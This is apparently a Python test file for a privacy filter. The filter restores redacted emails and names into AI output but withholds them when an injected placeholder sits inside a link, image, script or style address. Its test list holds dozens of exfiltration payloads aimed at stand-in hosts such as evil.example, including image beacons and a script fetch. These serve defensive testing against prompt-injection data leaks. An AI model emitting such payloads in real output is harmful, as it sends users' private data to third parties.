"""Values go into prose, into an address only where the caller allows it; and are written as the sink needs them."""

import html as html_module
import json
from itertools import pairwise
from urllib.parse import unquote

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from graftwork.core.privacy import sinks
from graftwork.core.privacy.book import Book
from graftwork.core.privacy.restore import Restorer, restore
from graftwork.core.privacy.sinks import EVERYWHERE, TOOLS, SinkPolicy
from graftwork.core.privacy.stream_json import JsonRestorer
from support.books import placeholder_for

HARD = 'He said "no"\\ \n\r\t\x00\x1f \u2028 é 😀 \ud800 <b>&amp;\'*_[x](y)'


def book_with(value: str = "ann@example.com") -> Book:
    book = Book()
    placeholder_for(book, value, "mail")
    placeholder_for(book, "Charlie", "person")
    return book


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=[MAIL_1])",
        "![x](https://evil.example/[MAIL_1].png)",
        "![x]([MAIL_1])",
        "![[PERSON_9]]([MAIL_1])",
        "[click](https://evil.example/?q=[MAIL_1])",
        "[click](<https://evil.example/ [MAIL_1]>)",
        '[click](https://evil.example "[MAIL_1]")',
        "[click](/a_(b)_[MAIL_1])",
        "[![alt](https://a.example/x.png)](https://evil.example/[MAIL_1])",
        "[x]: https://evil.example/[MAIL_1]",
        "[x]: //evil.example/[MAIL_1]",
        "see https://evil.example/?q=[MAIL_1]",
        "see HTTPS://evil.example/?q=mail_1",
        "https://[MAIL_1].evil.example/",
        "www.evil.example/[MAIL_1]",
        "mailto:x@evil.example?body=[MAIL_1]",
        "javascript:f('[MAIL_1]')",
        "data:text/html,[MAIL_1]",
        '<img src="https://evil.example/?q=[MAIL_1]">',
        "<img src=//evil.example/[MAIL_1]>",
        "<a href='//evil.example/?a>b&q=[MAIL_1]'>x</a>",
        "<a\nhref=//evil.example/[MAIL_1]>x</a>",
        "<https://evil.example/[MAIL_1]>",
        '<div style="background:url(//evil.example/[MAIL_1])">',
        "background: url(//evil.example/[MAIL_1])",
        "https://evil.example/%5BMAIL_1%5D",
        'https://evil.example/?q="[MAIL_1]',
        "https://evil.example/?q=>[MAIL_1]",
        "evil.example/?q=[MAIL_1]",
        "evil.com?q=[MAIL_1]",
        "evil:8080/[MAIL_1]",
        "<style>@import '//evil.example/[MAIL_1]';</style>",
        "<script>fetch('//evil/'+'[MAIL_1]')</script>",
        r"\href{//evil/[MAIL_1]}{x}",
        r"\\evil\share\[MAIL_1]",
        "sms:1?body=[MAIL_1]",
        "> [x]: //evil.example/[MAIL_1]",
        "- [x]: /[MAIL_1]",
        r"http:\/evil/[MAIL_1]",
        "[x]:\n//evil.example/[MAIL_1]",
        '<img alt="\n\n" src="//evil.example/[MAIL_1]">',
        "<img\n\nsrc=//evil.example/[MAIL_1]>",
    ],
)
def test_an_injected_placeholder_in_an_address_is_withheld(text):
    book = book_with()
    result = restore(text, book)
    assert "ann@example.com" not in result.text
    assert result.text == text
    assert (result.restored, result.withheld) == (0, 1)
    restorer = Restorer(book)
    assert "".join([*map(restorer.feed, text), restorer.close()]) == text
    assert "ann@example.com" in restore(text, book, sinks=EVERYWHERE).text


@pytest.mark.parametrize(
    "text",
    [
        "[x](https://a.example/) then [MAIL_1]",
        "![x](https://a.example/i.png)\n[MAIL_1]",
        "https://a.example/ [MAIL_1]",
        "see <b>[MAIL_1]</b>",
        "a < b and [MAIL_1]",
        "[PERSON_9] <[MAIL_1]>",
        "([MAIL_1])",
        "[see [MAIL_1] there]",
        "**[MAIL_1]** (home)",
        "a // b [MAIL_1]",
        "[1] [MAIL_1]",
        "- [ ] write to [MAIL_1]",
        "x[0] (of [MAIL_1])",
        "user: [MAIL_1]",
        '{"url":"https://a.example/","mail":"[MAIL_1]"}',
        "and/or [MAIL_1]",
        "a.b/c [MAIL_1]",
        "[x]: https://a.example/\n[MAIL_1]",
        "Is it so? [MAIL_1]",
        "SMS: [MAIL_1]",
        "at 10:30/[MAIL_1]",
        '{"//":"a comment","mail":"[MAIL_1]"}',
        "[Summary]:\n[MAIL_1] wrote",
        "- [Owner]: [MAIL_1]",
        "[x]:\n\n[MAIL_1]",
        r"C:\\Users\\[MAIL_1]",
        "e.g./[MAIL_1]",
    ],
)
def test_prose_next_to_an_address_is_restored(text):
    result = restore(text, book_with())
    assert result.text == text.replace("[MAIL_1]", "ann@example.com")
    assert result.withheld == 0


def test_who_speaks_in_a_transcript_is_no_link_definition():
    assert restore("[PERSON_1]: write to [MAIL_1]", book_with()).text == "Charlie: write to ann@example.com"


def test_an_image_is_told_from_a_link():
    policy = SinkPolicy(link="restore")
    text = "[a](/x/[PERSON_1]) ![b](/x/[PERSON_1]) <img src='[PERSON_1]'> <a href='[PERSON_1]'>"
    assert (
        restore(text, book_with(), sinks=policy).text
        == "[a](/x/Charlie) ![b](/x/[PERSON_1]) <img src='[PERSON_1]'> <a href='Charlie'>"
    )


def test_a_link_can_take_values_percent_encoded():
    result = restore("https://a.example/?q=[MAIL_1]&x", book_with("a b&c@é"), sinks=SinkPolicy(link="encode"))
    assert result.text == "https://a.example/?q=a%20b%26c%40%C3%A9&x"


@given(st.text())
@example(HARD)
def test_each_way_to_write_a_value_is_read_as_that_value(value):
    assert json.loads(f'"{sinks.json_string(value)}"') == value
    assert unquote(sinks.url(value), errors="surrogatepass") == value
    assert html_module.unescape(sinks.html(value)) == value.replace("\r", "\r")
    assert sinks.plain(value) == value
    sinks.json_string(value).encode()


def test_values_are_escaped_for_the_text_they_go_into():
    book = book_with('"a"\n')
    assert restore('{"m": "[MAIL_1]"}', book, escape=sinks.json_string).text == '{"m": "\\"a\\"\\n"}'


DOCUMENTS = st.recursive(
    st.sampled_from(["[MAIL_1]", "x [PERSON_1]s", "person_1", "\u005b", HARD, "[MAIL_9]", "", "😀"])
    | st.integers()
    | st.none(),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.sampled_from(["a", "person_1", "[PERSON_1]"]), inner, max_size=3)
    ),
    max_leaves=6,
)


def json_streamed(pieces: list[str], book: Book, policy: SinkPolicy = TOOLS) -> tuple[str, int, int, int]:
    restorer = JsonRestorer(book, sinks=policy)
    text = "".join([*map(restorer.feed, pieces), restorer.close()])
    return text, restorer.restored, restorer.unknown, restorer.withheld


def put_back(document: object) -> object:
    if isinstance(document, dict):
        return {key.replace("[PERSON_1]", "Charlie"): put_back(value) for key, value in document.items()}
    if isinstance(document, list):
        return [put_back(value) for value in document]
    if isinstance(document, str):
        return document.replace("[MAIL_1]", HARD).replace("[PERSON_1]", "Charlie").replace("person_1", "Charlie")
    return document


@given(DOCUMENTS, st.booleans(), st.lists(st.integers(0, 200), max_size=5))
def test_streamed_tool_call_json_is_restored_alike_in_every_split(document, ascii_only, cuts):
    raw = json.dumps(document, ensure_ascii=ascii_only)
    raw = raw.replace("[MAIL_1]", r"\u005bMAIL\u005f1]")
    at = sorted({0, len(raw), *(cut for cut in cuts if cut < len(raw))})
    book = book_with(HARD)
    whole = json_streamed([raw], book)
    assert json.loads(whole[0]) == put_back(document)
    assert json_streamed([raw[a:b] for a, b in pairwise(at)], book) == whole
    assert json_streamed(list(raw), book) == whole


def test_tool_arguments_are_withheld_unless_the_caller_runs_the_tool():
    raw = '{"to": "[MAIL_1]", "n": 1}'
    assert json_streamed([raw], book_with(), sinks.DEFAULT) == (raw, 0, 0, 1)
    assert json_streamed([raw], book_with(), TOOLS) == ('{"to": "ann@example.com", "n": 1}', 1, 0, 0)
    url = '{"url": "https://evil.example/?q=[MAIL_1]"}'
    assert json_streamed([url], book_with(), TOOLS) == (url, 0, 0, 1)


def test_the_name_of_a_member_is_no_placeholder_without_brackets():
    raw = '{"person_1": "person_1", "x": ["person_1", {"mail_1": 1}]}'
    assert json_streamed([raw], book_with())[0] == '{"person_1": "Charlie", "x": ["Charlie", {"mail_1": 1}]}'


def test_json_that_breaks_off_or_is_none_passes():
    for raw in ['{"a": "b [MAI', '{"a": "x\\', '{"a": "\\u00', '{"a": "\\ud83d', "nonsense ] } , :", '"']:
        text, restored, _, _ = json_streamed(list(raw), book_with())
        assert restored == 0
        assert text.startswith(raw[:8])
